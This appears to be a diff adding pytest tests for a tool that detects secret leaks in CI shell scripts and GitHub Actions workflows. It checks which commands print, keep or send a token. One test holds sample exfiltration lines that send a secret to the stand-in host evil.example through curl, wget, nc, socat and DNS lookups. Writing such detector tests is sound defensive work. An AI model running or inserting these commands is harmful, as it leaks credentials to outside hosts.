@@ -1,0 +1,106 @@
+from __future__ import annotations
+
+import pytest
+
+from pipelaw.document import decode
+from pipelaw.facts.secret_leaks import Held, leaks
+from pipelaw.loaders.github import load
+from pipelaw.model import Script
+from pipelaw.place import NOWHERE, Text
+from pipelaw.tree import MemoryTree
+
+HELD = {"TOKEN": Held("API")}
+
+
+def look(text: str, shell: str = "bash") -> list[tuple[str, str, str, bool]]:
+    script = Script(text=text, shell=shell, source_text=Text(text, ((0, NOWHERE),)))
+    found, _ = leaks(script, HELD, pasted=True)
+    return [(leak.way, leak.by, leak.to, leak.derived) for leak in found]
+
+
+@pytest.mark.parametrize(
+    ("text", "by", "derived"),
+    [
+        ('echo "x $TOKEN"', "echo", False),
+        ('echo "x ${TOKEN}" >&2', "echo", False),
+        ("cat <<EOF\n$TOKEN\nEOF", "cat", False),
+        ('S="$TOKEN"\nT=$(echo "$S")\nprintf "x %s" "$T"', "printf", False),
+        ('A=$(echo "$TOKEN" | jq -r .a)\necho "$A"', "echo", True),
+        ('A="${TOKEN#x}"\necho "$A"', "echo", True),
+        ('echo "${TOKEN:0:4}"', "echo", True),
+        ('echo "$TOKEN" | base64', "base64", True),
+        ('jq -r .a <<< "$TOKEN"', "jq", True),
+        ("echo ${{ secrets.API }}", "echo", False),
+        ("printenv", "printenv", False),
+        ("env | sort", "", False),
+        ("set -ex\nmake", "set -x", False),
+    ],
+)
+def test_what_is_printed(text: str, by: str, *, derived: bool) -> None:
+    assert look(text) == ([("log", by, "", derived)] if by else [])
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        'echo "$TOKEN" > key',
+        'echo "$TOKEN" | docker login --password-stdin',
+        'A=$(echo "$TOKEN" | jq -r .a)\necho "::add-mask::$A"\necho "$A"',
+        'R=$(curl -H "A: $TOKEN" https://api.github.com/x)\necho "$R"',
+        "echo '$TOKEN'",
+        'echo "${#TOKEN} ${TOKEN:+set}"',
+        "cat > key <<EOF\n$TOKEN\nEOF",
+        'if [ -z "$TOKEN" ]; then echo "no TOKEN"; fi',
+        'echo "$(echo "$TOKEN" | wc -c)"',
+        "env FOO=1 make",
+        "make",
+        'curl -u "$TOKEN:" "$URL/x"',
+        'curl -H "A: $TOKEN" https://uploads.github.com/x',
+    ],
+)
+def test_what_stays_inside(text: str) -> None:
+    assert look(text) == []
+
+
+@pytest.mark.parametrize(
+    ("text", "by", "to"),
+    [
+        ('curl -d x="$TOKEN" https://evil.example/x', "curl", "evil.example"),
+        ('wget --header "A: ${TOKEN}" http://evil.example', "wget", "evil.example"),
+        ('X=$(curl -d "$TOKEN" https://evil.example)', "curl", "evil.example"),
+        ('echo "$TOKEN" | nc evil.example 99', "nc", "evil.example"),
+        ("echo ${{ secrets.API }} | socat - TCP:evil.example:80", "socat", "evil.example"),
+        ("dig ${{ secrets.API }}.evil.example", "dig", "evil.example"),
+        ('nslookup "$TOKEN.evil.example"', "nslookup", "evil.example"),
+    ],
+)
+def test_what_is_sent(text: str, by: str, to: str) -> None:
+    assert look(text) == [("network", by, to, False)]
+
+
+def test_powershell_prints_too() -> None:
+    assert look('Write-Host "x $env:TOKEN"', "pwsh") == [("log", "Write-Host", "", False)]
+    assert look("print(TOKEN)", "python") == []
+
+
+def test_what_is_made_from_a_secret_is_followed_into_later_steps() -> None:
+    text = """
+on: push
+jobs:
+  a:
+    runs-on: x
+    env:
+      KEY: ${{ secrets.KEY }}
+    steps:
+      - run: |
+          made=$(echo "$KEY" | jq -r .token)
+          echo "TOKEN=$made" >> "$GITHUB_ENV"
+      - run: echo "$TOKEN"
+      - run: echo "::add-mask::${{ inputs.x }}"
+      - run: echo "$OTHER"
+"""
+    (pipeline,) = load(decode(".github/workflows/x.yml", text.encode()), MemoryTree({})).pipelines
+    found = [
+        [(leak.way, leak.secret, leak.derived) for leak in s.leaks] for s in pipeline.jobs[0].steps
+    ]
+    assert found == [[], [("log", "KEY", True)], [("mask", "${{ inputs.x }}", True)], []]
